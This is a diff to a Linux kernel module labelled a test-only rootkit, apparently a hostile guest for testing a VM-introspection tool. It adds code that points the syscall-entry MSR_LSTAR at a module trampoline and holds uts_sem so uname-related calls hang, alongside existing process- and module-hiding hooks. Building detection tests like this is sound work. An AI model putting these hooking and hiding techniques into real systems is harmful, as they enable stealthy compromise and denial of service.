@@ -8,7 +8,8 @@
  * CONFIG_ARCH_HAS_SYSCALL_WRAPPER, CONFIG_DYNAMIC_FTRACE_WITH_REGS, no IBT), booted
  * with nokaslr. Every behaviour is off at load and switched at run time through
  * /sys/module/hostile/parameters/<knob> (0644); writing 0 undoes it. A switch prints
- * "hostile: <knob> = <value> ok" or "hostile: <knob> failed: <-errno>" and a failed
+ * "hostile: <knob> = <value> ok" (some add " (details)") or
+ * "hostile: <knob> failed: <-errno>" and a failed
  * switch returns that error to the writer.
  *
  *   hide_pid=N      ftrace hooks: getdents64 drops the entry named N (ls /proc, ps),
@@ -20,6 +21,18 @@
  *   remap_uname=1   leaves the text alone and points the page-table entry mapping
  *                   __x64_sys_newuname at a patched copy of its whole page (2 MiB):
  *                   nodename "remapped" (hole 1). 0 restores the entry, frees the copy.
+ *   hook_lstar=1    hooks the syscall entry as rootkits do: MSR_LSTAR of every online
+ *                   CPU points at a trampoline in this module that jumps on to the
+ *                   saved entry_SYSCALL_64 touching no register and no stack; every
+ *                   system call of the GVM goes through it. The ok line shows the old
+ *                   and new LSTAR. 0 writes the saved LSTAR back. Refused (-EOPNOTSUPP)
+ *                   while page-table isolation is on: the user page tables, live at
+ *                   the SYSCALL instruction, do not map module memory.
+ *   hold_uts_sem=1  takes the kernel's uts_sem for writing and keeps it: uname(2),
+ *                   sethostname(2), setdomainname(2), /proc/sys/kernel/{hostname,
+ *                   domainname,osrelease,ostype,version} and anything else that takes
+ *                   it sleep (D state) until 0 releases it. The holder is a kernel
+ *                   thread of this module, [hostile_uts], asleep (S) while it holds.
  *
  * patch_uname and remap_uname exclude each other (-EBUSY). While remap_uname=1,
  * nothing may rewrite text in the remapped region (the kernel's text_poke writes
@@ -32,8 +45,9 @@
  * 14-byte stub (fentry site; mov 0x70(%rdi),%rdi; jmp __do_sys_newuname) in the
  * first 2 MiB of text, which also holds x64_sys_call, __x64_sys_kill and ftrace's
  * trampolines (ftrace_regs_caller).
- * Switch order for a test: hide_pid, hide_self, patch_uname, remap_uname, each
- * back to 0 before the next is fine; module exit undoes all, remap first.
+ * Switch order for a test: hide_pid, hide_self, patch_uname, remap_uname, hook_lstar,
+ * hold_uts_sem, each back to 0 before the next is fine; module exit undoes all, remap
+ * first.
  */
 #define pr_fmt(fmt) "hostile: " fmt
 
@@ -54,10 +68,17 @@
 #include <linux/mutex.h>
 #include <linux/delay.h>
 #include <linux/rculist.h>
+#include <linux/kthread.h>
+#include <linux/rwsem.h>
+#include <linux/completion.h>
 #include <asm/nops.h>
 #include <asm/sync_core.h>
 #include <asm/tlbflush.h>
 #include <asm/pgtable.h>
+#include <asm/msr.h>
+#include <asm/cpufeature.h>
+#include <asm/nospec-branch.h>
+#include <asm/unwind_hints.h>
 
 MODULE_LICENSE("GPL");
 MODULE_DESCRIPTION("exterior-vmm test-only rootkit (hostile GVM for e2e tests)");
@@ -74,13 +95,16 @@ static lookup_fn lookup_name;
 static unsigned long a_getdents64, a_kill, a_newuname;
 static struct mutex *p_text_mutex, *p_module_mutex;
 static struct list_head *p_modules;
+static unsigned long a_entry_syscall;
+static struct rw_semaphore *p_uts_sem;
 typedef int (*stop_cpuslocked_fn)(cpu_stop_fn_t, void *, const struct cpumask *);
 static stop_cpuslocked_fn p_stop_machine_cpuslocked;
 
 /* Knob values (what the getters show); changed only when a switch succeeds. */
-static int hide_pid, hide_self, patch_uname, remap_uname;
+static int hide_pid, hide_self, patch_uname, remap_uname, hook_lstar, hold_uts_sem;
 
 static DEFINE_MUTEX(knob_lock);     /* serialises switches and module exit */
+static char knob_note[128];         /* details a switch adds to its ok line */
 static bool ready, exiting;         /* switches work only between init and exit */
 static atomic_t inflight = ATOMIC_INIT(0); /* tasks inside a hook (exit waits) */
 
@@ -590,6 +614,205 @@ static int remap_uname_switch(int on)
 	return on ? remap_uname_on() : remap_uname_off(false);
 }
 
+/* ---- 5. hook_lstar: the syscall entry MSR points into the module ---------- */
+
+/*
+ * The trampoline LSTAR points at while hooked. SYSCALL lands here at CPL 0 with the
+ * user's RSP and GS and interrupts off (SFMASK), exactly as it lands at
+ * entry_SYSCALL_64; this code touches no register, no flag and no stack: one
+ * memory-indirect jmp through a u64 in module data, set before any wrmsr and never
+ * changed while LSTAR may point here. Module memory is mapped by the kernel half of
+ * every page table (its top-level entries are preallocated: no vmalloc fault), but
+ * not by the user page tables of page-table isolation, hence the PTI refusal.
+ * For objtool it is entry code like entry_SYSCALL_64: a symbol without a function
+ * type, validated from its unwind hint (ORC "end of stack": no frame to unwind),
+ * the indirect jmp marked retpoline-safe (nothing to speculate into before the
+ * entry's own mitigations run) and followed by int3 (SLS).
+ */
+extern void hostile_lstar_tramp(void);
+extern u64 hostile_lstar_target;
+u64 hostile_lstar_target __visible;
+
+asm(".pushsection .text, \"ax\"\n\t"
+    ".balign 16\n"
+    "hostile_lstar_tramp:\n\t"
+    UNWIND_HINT(ORC_REG_UNDEFINED, 0, UNWIND_HINT_TYPE_CALL, 1)
+    "endbr64\n\t"
+    ANNOTATE_RETPOLINE_SAFE
+    "jmp *hostile_lstar_target(%rip)\n\t"
+    "int3\n\t"
+    ".size hostile_lstar_tramp, . - hostile_lstar_tramp\n\t"
+    ".popsection\n");
+
+static u64 lstar_saved;	/* the LSTAR found when hooking (entry_SYSCALL_64) */
+
+struct lstar_op {
+	u64 expect;	/* non-zero: count the CPUs whose LSTAR differs */
+	u64 val;	/* non-zero: write it */
+	atomic_t bad;
+};
+
+static void lstar_ipi(void *arg)
+{
+	struct lstar_op *op = arg;
+	u64 cur;
+
+	if (op->expect) {
+		rdmsrl(MSR_LSTAR, cur);
+		if (cur != op->expect)
+			atomic_inc(&op->bad);
+	}
+	if (op->val)
+		wrmsrl(MSR_LSTAR, op->val);
+}
+
+/* Runs lstar_ipi on every online CPU, this one included; returns the mismatches. */
+static int lstar_all(u64 expect, u64 val)
+{
+	struct lstar_op op = { .expect = expect, .val = val, .bad = ATOMIC_INIT(0) };
+
+	on_each_cpu(lstar_ipi, &op, 1);
+	return atomic_read(&op.bad);
+}
+
+static int hook_lstar_on(void)
+{
+	u64 old, new = (unsigned long)hostile_lstar_tramp;
+	int ret = 0;
+
+	if (!a_entry_syscall)
+		return -ENOENT;
+	if (boot_cpu_has(X86_FEATURE_PTI)) {
+		pr_warn("hook_lstar: page-table isolation is on; the trampoline would fault\n");
+		return -EOPNOTSUPP;
+	}
+	/* A CPU coming online meanwhile would get entry_SYSCALL_64 (syscall_init). */
+	cpus_read_lock();
+	rdmsrl(MSR_LSTAR, old);
+	/* Every CPU must still enter at entry_SYSCALL_64: no one else's hook. */
+	if (old != a_entry_syscall || lstar_all(old, 0)) {
+		ret = -EBUSY;
+		goto out;
+	}
+	WRITE_ONCE(hostile_lstar_target, old);	/* the IPIs order it before the wrmsr */
+	lstar_all(0, new);
+	if (lstar_all(new, 0)) {	/* read back: every CPU must show the trampoline */
+		lstar_all(0, old);
+		ret = -EIO;
+		goto out;
+	}
+	lstar_saved = old;
+out:
+	cpus_read_unlock();
+	if (!ret)
+		snprintf(knob_note, sizeof(knob_note),
+			 " (LSTAR %#llx -> %#llx, trampoline jumps to entry_SYSCALL_64)",
+			 old, new);
+	return ret;
+}
+
+/*
+ * Back to the saved entry on every CPU, whatever each shows now. Once on_each_cpu
+ * returns, no CPU is in the trampoline or can enter it: it runs with interrupts off
+ * and so finishes before the CPU takes the IPI. hostile_lstar_target stays valid.
+ */
+static void hook_lstar_off(void)
+{
+	u64 cur;
+
+	cpus_read_lock();
+	rdmsrl(MSR_LSTAR, cur);
+	lstar_all(0, lstar_saved);
+	cpus_read_unlock();
+	snprintf(knob_note, sizeof(knob_note), " (LSTAR %#llx -> %#llx)", cur, lstar_saved);
+}
+
+static int hook_lstar_switch(int on)
+{
+	if (on != 0 && on != 1)
+		return -EINVAL;
+	if (!!on == !!hook_lstar)
+		return 0;
+	if (on)
+		return hook_lstar_on();
+	hook_lstar_off();
+	return 0;
+}
+
+/* ---- 6. hold_uts_sem: uts_sem held for writing across system calls -------- */
+
+/*
+ * The holder is a kernel thread, not the task that writes the knob: an rwsem records
+ * its writer (sem->owner), and a writer waiting on it spins while that owner is on a
+ * CPU, reading the owner's task_struct; a shell or echo that took the lock and then
+ * exited would leave a dangling owner there. The thread stays alive, asleep
+ * (TASK_INTERRUPTIBLE: no hung-task report, kthreads take no signals), until
+ * kthread_stop; it releases the lock itself, so the owner check of DEBUG_RWSEMS
+ * would be satisfied too (it is off in the pinned config anyway). It only trylocks,
+ * so a switch that cannot get the lock (readers that never leave) gives up.
+ */
+static struct task_struct *uts_holder;
+static DECLARE_COMPLETION(uts_taken);
+
+static int uts_holder_fn(void *unused)
+{
+	bool held = false;
+
+	while (!kthread_should_stop()) {
+		if (!held) {
+			if (down_write_trylock(p_uts_sem)) {
+				held = true;
+				complete(&uts_taken);
+			} else {
+				msleep(10);
+			}
+			continue;
+		}
+		set_current_state(TASK_INTERRUPTIBLE);
+		if (!kthread_should_stop())
+			schedule();
+		__set_current_state(TASK_RUNNING);
+	}
+	if (held)
+		up_write(p_uts_sem);
+	return held;
+}
+
+#define UTS_TAKE_TIMEOUT (10 * HZ)
+
+static int hold_uts_sem_switch(int on)
+{
+	struct task_struct *t;
+	int held;
+
+	if (on != 0 && on != 1)
+		return -EINVAL;
+	if (!!on == !!uts_holder)
+		return 0;
+	if (!p_uts_sem)
+		return -ENOENT;
+	if (!on) {
+		held = kthread_stop(uts_holder);	/* it calls up_write */
+		uts_holder = NULL;
+		snprintf(knob_note, sizeof(knob_note), " (uts_sem at %px released%s)",
+			 p_uts_sem, held == 1 ? "" : ": was not held?");
+		return 0;
+	}
+	reinit_completion(&uts_taken);
+	t = kthread_run(uts_holder_fn, NULL, "hostile_uts");
+	if (IS_ERR(t))
+		return PTR_ERR(t);
+	if (!wait_for_completion_timeout(&uts_taken, UTS_TAKE_TIMEOUT)) {
+		kthread_stop(t);	/* releases it if it got it just now */
+		return -EBUSY;
+	}
+	uts_holder = t;
+	snprintf(knob_note, sizeof(knob_note),
+		 " (uts_sem at %px held for writing by [hostile_uts] pid %d)",
+		 p_uts_sem, task_pid_nr(t));
+	return 0;
+}
+
 /* ---- the knobs ------------------------------------------------------------ */
 
 static int knob_set(const char *val, const struct kernel_param *kp,
@@ -601,17 +824,18 @@ static int knob_set(const char *val, const struct kernel_param *kp,
 	if (ret)
 		return ret;
 	mutex_lock(&knob_lock);
+	knob_note[0] = '\0';
 	if (!ready || exiting)
 		ret = -EBUSY;	/* not at insmod time: switch after load */
 	else
 		ret = sw(v);
 	if (!ret)
 		*(int *)kp->arg = v;
-	mutex_unlock(&knob_lock);
 	if (ret)
 		pr_info("%s failed: %d\n", kp->name, ret);
 	else
-		pr_info("%s = %d ok\n", kp->name, v);
+		pr_info("%s = %d ok%s\n", kp->name, v, knob_note);
+	mutex_unlock(&knob_lock);	/* after printing: knob_note is ours till then */
 	return ret;
 }
 
@@ -631,6 +855,10 @@ KNOB(patch_uname, patch_uname_switch);
 MODULE_PARM_DESC(patch_uname, "1 = __x64_sys_newuname text patched: nodename rootkit");
 KNOB(remap_uname, remap_uname_switch);
 MODULE_PARM_DESC(remap_uname, "1 = text page of __x64_sys_newuname remapped to a patched copy: nodename remapped");
+KNOB(hook_lstar, hook_lstar_switch);
+MODULE_PARM_DESC(hook_lstar, "1 = MSR_LSTAR points at a trampoline in the module that jumps to entry_SYSCALL_64");
+KNOB(hold_uts_sem, hold_uts_sem_switch);
+MODULE_PARM_DESC(hold_uts_sem, "1 = uts_sem held for writing: uname, sethostname and co. sleep until 0");
 
 /* ---- load and unload ------------------------------------------------------ */
 
@@ -668,6 +896,8 @@ static int __init hostile_init(void)
 	p_module_mutex = (struct mutex *)resolve("module_mutex");
 	p_modules = (struct list_head *)resolve("modules");
 	p_stop_machine_cpuslocked = (stop_cpuslocked_fn)resolve("stop_machine_cpuslocked");
+	a_entry_syscall = resolve("entry_SYSCALL_64");
+	p_uts_sem = (struct rw_semaphore *)resolve("uts_sem");
 
 	mutex_lock(&knob_lock);
 	ready = true;
@@ -679,6 +909,13 @@ static void __exit hostile_exit(void)
 {
 	mutex_lock(&knob_lock);
 	exiting = true;
+	/* Before anything else: the trampoline lives in this module's text. */
+	if (hook_lstar)
+		hook_lstar_off();
+	if (uts_holder) {
+		kthread_stop(uts_holder);	/* up_write by the thread itself */
+		uts_holder = NULL;
+	}
 	/* Remap first: the hooks can only go (text pokes) once the text is back. */
 	remap_uname_off(true);
 	if (patch_uname && text_write(a_newuname, uname_saved, JMP_LEN))
